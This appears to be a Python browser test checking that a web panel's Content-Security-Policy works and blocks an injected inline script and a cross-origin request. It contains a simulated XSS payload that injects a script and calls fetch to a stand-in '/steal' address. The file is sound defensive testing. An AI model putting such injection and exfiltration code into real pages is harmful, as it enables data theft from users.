"""The built UI works under the server's Content-Security-Policy, and the policy really blocks
what it should (an injected inline script, a connection to another origin, being framed)."""

from __future__ import annotations

import time
from typing import Any

from tests.support.ui import UI


def test_the_ui_works_under_its_csp_and_the_csp_blocks_injection(browser: Any, panel: Any) -> None:
    ui = UI(browser, panel.url, panel.token)
    page = ui.page
    try:
        response = page.goto("/#/runs")
        headers = response.all_headers()
        assert "script-src 'self'" in headers["content-security-policy"]
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
        page.get_by_role("heading", name="Runs").wait_for()
        for route, heading in (("#/launch", "Launch"), ("#/workers", "Workers")):
            page.goto("/" + route)
            page.get_by_role("heading", name=heading).first.wait_for()
        assert not ui.console_errors, ui.console_errors  # the real pages: no violation at all

        # What an XSS would try: run an inline script, send data to another origin.
        page.evaluate(
            "() => { const s = document.createElement('script');"
            " s.textContent = 'window.__pwned = 1'; document.body.appendChild(s);"
            " fetch('http://198.51.100.1/steal').catch(() => {}); }"
        )
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and len(ui.console_errors) < 2:
            page.wait_for_timeout(100)
        assert page.evaluate("window.__pwned") is None
        joined = " ".join(ui.console_errors)
        assert "script-src" in joined and "connect-src" in joined, ui.console_errors
    finally:
        ui.close()
